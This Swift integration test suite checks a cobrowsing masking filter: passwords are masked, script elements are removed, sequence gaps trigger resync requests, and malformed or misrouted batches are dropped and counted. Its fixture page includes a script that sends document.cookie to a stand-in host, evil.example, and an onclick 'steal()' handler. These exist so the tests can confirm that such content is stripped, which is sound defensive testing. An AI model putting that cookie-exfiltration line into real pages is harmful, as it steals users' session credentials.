import AMQP
import CobrowseBroker
import CobrowseProtocol
import Foundation
import ServiceKit
import TestSupport
import Testing

/// `masking-filter` processes on their own virtual host: frames go into `cobrowse.ingest` the
/// way the relay will send them, and come out of `cobrowse.view` / `cobrowse.sharer`.
final class FilterFixture: @unchecked Sendable {
    let url: String
    let connection: AMQPConnection
    var filters: [ServiceProcess] = []

    init(_ name: String) async throws {
        url = try await TestBroker.isolatedVirtualHost(name)
        connection = try await AMQPConnection.connect(url: url)
    }

    @discardableResult
    func startFilter(_ environment: [String: String] = [:]) async throws -> ServiceProcess {
        // Shedding is for an overloaded filter, and a test run loads this machine: generous limits
        // unless a test sets its own, so no frame a test waits for is shed.
        let filter = try await ServiceProcess.ready("masking-filter", environment: SheddingIntegrationTests.limits
            .merging(environment) { $1 }.merging(["AMQP_URL": url, "INSTANCE_ID": "filter-\(filters.count)"]) { $1 })
        filters.append(filter)
        return filter
    }

    /// A consumer of what the filter publishes for `session` on `exchange`.
    func listen(_ exchange: String, session: SessionID) async throws -> AMQPConsumer {
        try await connection.listen(to: exchange, key: session.routingKey, prefetch: 2000)
    }

    func send(_ frame: StreamFrame, session: SessionID) async throws {
        try await sendBatch([IngestBatch.Record(session: session, body: try JSONEncoder().encode(frame))])
    }

    func sendRaw(_ body: String, session: SessionID) async throws {
        try await sendBatch([IngestBatch.Record(session: session, body: Data(body.utf8))])
    }

    /// Records of sessions on one shard in one message, as a relay publishes them.
    func sendBatch(_ records: [IngestBatch.Record]) async throws {
        let shards = Set(records.map { CobrowseTopology.ingestShard(of: $0.session) })
        precondition(shards.count == 1, "one batch goes to one shard")
        try await sendBatchBody(IngestBatch.encode(records), shard: shards.first!)
    }

    func sendBatchBody(_ body: Data, shard: Int) async throws {
        try await connection.publishUnconfirmed(AMQPMessage(body: body, properties: AMQPProperties(contentType: IngestBatch.contentType)),
                                                exchange: CobrowseTopology.ingestExchange,
                                                routingKey: CobrowseTopology.ingestRoutingKey(shard: shard))
    }

    func stop() async {
        for filter in filters where filter.process.isRunning { _ = await filter.terminate() }
        await connection.close()
    }
}

/// A small page: a password field, a script, some text.
func loginPage(password: String = "hunter2", text: String = "Hello") -> StreamEvent.Snapshot {
    var field = DOMNode.element(4, "input", ["type": "password", "name": "pw", "value": password])
    field.value = password
    return StreamEvent.Snapshot(url: "https://shop.example/login", title: "Sign in", viewport: Viewport(w: 1280, h: 800), root:
        .element(1, "html", [:], [
            .element(2, "body", [:], [
                .element(3, "form", [:], [field, .element(9, "input", ["type": "text", "name": "user"])]),
                .element(5, "script", [:], [.text(6, "fetch('https://evil.example/?k='+document.cookie)")]),
                .element(7, "p", ["onclick": "steal()"], [.text(8, text)]),
            ]),
        ]))
}

extension AMQPConsumer {
    func frames(_ count: Int) async throws -> [(frame: StreamFrame, raw: String)] {
        try await take(count).map { (try JSONDecoder().decode(StreamFrame.self, from: $0.body), String(decoding: $0.body, as: UTF8.self)) }
    }
}

@Suite struct FilterIntegrationTests {
    @Test func passwordsAndScriptsNeverReachTheViewExchange() async throws {
        let fixture = try await FilterFixture("filter-mask")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)

        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        try await fixture.send(StreamFrame(seq: 2, .input(.init(id: 4, value: "hunter2-and-more"))), session: session)
        try await fixture.send(StreamFrame(seq: 3, .input(.init(id: 9, value: "alice"))), session: session)
        let received = try await view.frames(3)
        for (_, raw) in received {
            #expect(!raw.contains("hunter2"), "a password reached the view exchange: \(raw)")
            #expect(!raw.contains("evil.example") && !raw.contains("steal()"), "script content reached the view exchange: \(raw)")
        }
        guard case let .snapshot(snapshot) = received[0].frame.event else { Issue.record("first frame is not the snapshot"); return }
        let form = snapshot.root.children?[0].children?[0]
        #expect(form?.children?[0].attrs?["value"] == "****" && form?.children?[0].value == "****")
        #expect(snapshot.root.children?[0].children?.count == 2, "the script must be gone")
        #expect(received[1].frame.event == .input(.init(id: 4, value: "****")))
        #expect(received[2].frame.event == .input(.init(id: 9, value: "alice")))
        #expect(received.map(\.frame.seq) == [1, 2, 3])
    }

    @Test func withoutASnapshotViewersGetNothingAndTheSharerIsAskedForOne() async throws {
        let fixture = try await FilterFixture("filter-closed")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)

        try await fixture.send(StreamFrame(seq: 7, .input(.init(id: 4, value: "typed before the snapshot"))), session: session)
        let request = try #require(try await sharer.take(1).first)
        let resync = try JSONDecoder().decode(ResyncRequest.self, from: request.body)
        #expect(resync.t == "resync" && resync.reason.contains("no snapshot"))

        // A snapshot then flows; the earlier input never does.
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "after"))), session: session)
        let first = try #require(try await view.frames(1).first)
        guard case .snapshot = first.frame.event else { Issue.record("expected the snapshot first, got \(first.raw)"); return }
        #expect(!first.raw.contains("typed before the snapshot"))
    }

    @Test func aGapStopsTheStreamUntilAFreshSnapshot() async throws {
        let fixture = try await FilterFixture("filter-gap")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)

        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        try await fixture.send(StreamFrame(seq: 3, .cursor(.init(x: 1, y: 1))), session: session) // seq 2 lost
        try await fixture.send(StreamFrame(seq: 4, .cursor(.init(x: 2, y: 2))), session: session)
        let resync = try JSONDecoder().decode(ResyncRequest.self, from: try #require(try await sharer.take(1).first).body)
        #expect(resync.reason.contains("gap"))
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "again"))), session: session)
        try await fixture.send(StreamFrame(seq: 2, .cursor(.init(x: 3, y: 3))), session: session)
        let received = try await view.frames(3)
        #expect(received.map(\.frame.event.type) == ["snapshot", "snapshot", "cursor"])
        #expect(received.map(\.frame.seq) == [1, 2, 3])
        #expect(received[2].frame.event == .cursor(.init(x: 3, y: 3)))
    }

    @Test func anUnansweredResyncIsRepeatedEvenWhenThePageGoesQuiet() async throws {
        let fixture = try await FilterFixture("filter-retry")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        try await fixture.send(StreamFrame(seq: 5, .cursor(.init(x: 1, y: 1))), session: session) // a gap, then silence
        let requests = try await sharer.take(2, within: .seconds(20))
        let reasons = try requests.map { try JSONDecoder().decode(ResyncRequest.self, from: $0.body).reason }
        #expect(reasons.first?.contains("gap") == true)
        #expect(reasons.last == "still waiting for a snapshot")
    }

    @Test func aRelayThatReconnectedHasItsSnapshotRequestPassedOnAtOnce() async throws {
        let fixture = try await FilterFixture("filter-reconnected-request")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        try await fixture.sendRaw(#"{"t":"snapshot-wanted","reason":"a viewer joined"}"#, session: session)
        // The page answers; then, within the 2 s budget, the relay's one request after
        // reconnecting goes out at once, and an ordinary one after it waits (a filter without
        // the exception would hold both, and send only the last).
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        // (The relay got its queue back after that snapshot was passed on: a minute from now.)
        let reconnectedAt = Date().millisecondsSince1970 + 60_000
        try await fixture.sendRaw(#"{"t":"snapshot-wanted","reason":"the relay reconnected","reconnectedAt":\#(reconnectedAt)}"#,
                                  session: session)
        try await fixture.sendRaw(#"{"t":"snapshot-wanted","reason":"a viewer saw a gap"}"#, session: session)
        let requests = try await sharer.take(3, within: .seconds(20))
        let reasons = try requests.map { try JSONDecoder().decode(ResyncRequest.self, from: $0.body).reason }
        #expect(reasons == ["a viewer joined", "the relay reconnected", "a viewer saw a gap"])
    }

    @Test func thousandRapidMutationsArriveCompleteAndInOrder() async throws {
        let fixture = try await FilterFixture("filter-order")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        for index in 0..<1_000 {
            try await fixture.send(StreamFrame(seq: 2 + index, .mutations(.init(texts: [.init(id: 8, text: "item \(index)")]))),
                                   session: session)
        }
        let received = try await view.frames(1_001)
        #expect(received.map(\.frame.seq) == Array(1...1_001))
        let texts = received.dropFirst().compactMap { entry -> String? in
            if case let .mutations(m) = entry.frame.event { m.texts.first?.text } else { nil }
        }
        #expect(texts == (0..<1_000).map { "item \($0)" })
    }

    /// Sessions on one shard, as `count` distinct random ids.
    static func sessions(onShard shard: Int, count: Int) -> [SessionID] {
        var found: [SessionID] = []
        while found.count < count {
            let id = SessionID.random()
            if CobrowseTopology.ingestShard(of: id) == shard, !found.contains(id) { found.append(id) }
        }
        return found
    }

    @Test func oneBatchCarriesManySessionsAndEachGetsItsOwnFramesMaskedAndInOrder() async throws {
        let fixture = try await FilterFixture("filter-batch")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let sessions = Self.sessions(onShard: 2, count: 3)
        var views: [AMQPConsumer] = []
        for session in sessions { views.append(try await fixture.listen(CobrowseTopology.viewExchange, session: session)) }
        // Interleaved the way a relay gathers them: every session's snapshot, then its inputs.
        var records: [IngestBatch.Record] = []
        for (index, session) in sessions.enumerated() {
            records.append(.init(session: session, body: try JSONEncoder().encode(StreamFrame(seq: 1, .snapshot(loginPage(text: "page \(index)"))))))
        }
        for seq in 2...4 {
            for (index, session) in sessions.enumerated() {
                records.append(.init(session: session, receivedAt: Date().millisecondsSince1970,
                                     body: try JSONEncoder().encode(StreamFrame(seq: seq, .input(.init(id: 4, value: "secret \(index) \(seq)"))))))
            }
        }
        try await fixture.sendBatch(records)
        for (index, view) in views.enumerated() {
            let received = try await view.frames(4)
            #expect(received.map(\.frame.seq) == [1, 2, 3, 4])
            #expect(received[0].raw.contains("page \(index)"), "another session's page: \(received[0].raw)")
            for (_, raw) in received { #expect(!raw.contains("secret"), "a password reached the view exchange: \(raw)") }
            #expect(received.dropFirst().allSatisfy { $0.frame.event == .input(.init(id: 4, value: "****")) })
        }
    }

    @Test func aBatchBrokenMidwayKeepsWhatCameBeforeAndCountsTheRestAsMalformed() async throws {
        let fixture = try await FilterFixture("filter-broken-batch")
        defer { Task { await fixture.stop() } }
        let filter = try await fixture.startFilter()
        let session = Self.sessions(onShard: 1, count: 1)[0]
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        var body = IngestBatch.encode([.init(session: session, body: try JSONEncoder().encode(StreamFrame(seq: 1, .snapshot(loginPage()))))])
        body.append(Data("\(session.digits) 0 999999\n{\"t\":\"input\"".utf8)) // says more bytes than follow
        try await fixture.sendBatchBody(body, shard: 1)
        // A batch that is not one at all, and one naming no session.
        try await fixture.sendBatchBody(Data("not a batch".utf8), shard: 1)
        try await fixture.sendBatchBody(Data("12345 0 2\n{}".utf8), shard: 1)
        try await fixture.send(StreamFrame(seq: 2, .input(.init(id: 9, value: "bob"))), session: session)
        let received = try await view.frames(2)
        #expect(received.map(\.frame.event.type) == ["snapshot", "input"])
        let metrics = await filter.get("/metrics")?.body ?? ""
        let malformed = metrics.split(separator: "\n").filter { $0.hasPrefix("cobrowse_filter_frames_total{") && $0.contains(#"reason="malformed""#) }
        #expect(malformed.count == 1 && malformed[0].hasSuffix(" 3"), "three broken batches must be counted:\n\(metrics)")
    }

    @Test func aRecordOnAShardItsSessionDoesNotHashToIsDroppedAndCounted() async throws {
        let fixture = try await FilterFixture("filter-wrong-shard")
        defer { Task { await fixture.stop() } }
        let filter = try await fixture.startFilter()
        let stray = Self.sessions(onShard: 2, count: 1)[0], session = Self.sessions(onShard: 3, count: 1)[0]
        let strayView = try await fixture.listen(CobrowseTopology.viewExchange, session: stray)
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        // The stray session's snapshot put on shard 3, before a snapshot of shard 3's own session.
        try await fixture.sendBatchBody(IngestBatch.encode([
            .init(session: stray, body: try JSONEncoder().encode(StreamFrame(seq: 1, .snapshot(loginPage(text: "stray"))))),
            .init(session: session, body: try JSONEncoder().encode(StreamFrame(seq: 1, .snapshot(loginPage(text: "own"))))),
        ]), shard: 3)
        // The batch is handled in order: once the own snapshot is out, the stray one was dropped.
        #expect(try await view.frames(1)[0].raw.contains("own"))
        #expect((try? await strayView.take(1, within: .milliseconds(500))) == nil, "a record on the wrong shard was forwarded")
        let metrics = await filter.get("/metrics")?.body ?? ""
        #expect(metrics.contains(#"reason="wrong-shard""#), "\(metrics)")
    }

    @Test func malformedFramesAreDroppedAndTheFilterKeepsGoing() async throws {
        let fixture = try await FilterFixture("filter-poison")
        defer { Task { await fixture.stop() } }
        let filter = try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        try await fixture.sendRaw("not json", session: session)
        try await fixture.sendRaw(#"{"t":"teleport","seq":1}"#, session: session)
        try await fixture.connection.publishUnconfirmed(AMQPMessage("{}"), exchange: CobrowseTopology.ingestExchange, routingKey: "bogus")
        try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage())), session: session)
        #expect(try await view.frames(1).first?.frame.event.type == "snapshot")
        for shard in 0..<CobrowseTopology.ingestShardCount {
            #expect(try await fixture.connection.inspectQueue(CobrowseTopology.ingestShardQueue(shard)).messageCount == 0)
        }
        let metrics = await filter.get("/metrics")?.body ?? ""
        #expect(metrics.contains(#"reason="malformed""#), "dropped frames must be counted:\n\(metrics)")
    }

    @Test func twoFiltersShareTheShardsAndEverySessionIsServed() async throws {
        let fixture = try await FilterFixture("filter-scale")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        try await fixture.startFilter()
        let sessions = (0..<12).map { _ in SessionID.random() }
        var views: [AMQPConsumer] = []
        for session in sessions { views.append(try await fixture.listen(CobrowseTopology.viewExchange, session: session)) }
        for session in sessions {
            try await fixture.send(StreamFrame(seq: 1, .snapshot(loginPage(text: "\(session)"))), session: session)
            try await fixture.send(StreamFrame(seq: 2, .cursor(.init(x: 5, y: 5))), session: session)
        }
        for (session, view) in zip(sessions, views) {
            let received = try await view.frames(2)
            #expect(received.map(\.frame.seq) == [1, 2], "session \(session)")
            #expect(received[0].raw.contains("\(session)"))
        }
    }
}

@Suite struct DeepPageIntegrationTests {
    @Test func aPage300DeepIsForwardedMasked() async throws {
        let fixture = try await FilterFixture("filter-deep-page")
        defer { Task { await fixture.stop() } }
        try await fixture.startFilter()
        let session = SessionID.random()
        let view = try await fixture.listen(CobrowseTopology.viewExchange, session: session)
        let body = try FrameCoding.encode(StreamFrame(seq: 1, .snapshot(deepPage(300))))
        try await fixture.sendRaw(String(decoding: body, as: UTF8.self), session: session)
        guard let message = try await view.take(1).first else { Issue.record("nothing on the view exchange"); return }
        let raw = String(decoding: message.body, as: UTF8.self)
        guard case let .snapshot(snapshot) = try FrameCoding.decode(message.body).event else { Issue.record("not a snapshot"); return }
        #expect(snapshot.root.depth == 301)
        #expect(!raw.contains("hunter2") && raw.contains("****"))
    }

    @Test func aPageOverTheLimitIsRefusedAsTooDeepAndASnapshotIsAskedFor() async throws {
        let fixture = try await FilterFixture("filter-too-deep")
        defer { Task { await fixture.stop() } }
        let filter = try await fixture.startFilter()
        let session = SessionID.random()
        let sharer = try await fixture.listen(CobrowseTopology.sharerExchange, session: session)
        let body = try FrameCoding.encode(StreamFrame(seq: 1, .snapshot(deepPage(StreamLimits.maxNodeDepth))))
        try await fixture.sendRaw(String(decoding: body, as: UTF8.self), session: session)
        let resync = try JSONDecoder().decode(ResyncRequest.self, from: try #require(try await sharer.take(1).first).body)
        #expect(resync.t == "resync" && resync.reason.contains("too deep"), "\(resync.reason)")
        let metrics = await filter.get("/metrics")?.body ?? ""
        #expect(metrics.contains(#"reason="too-deep""#), "\(metrics)")
    }
}
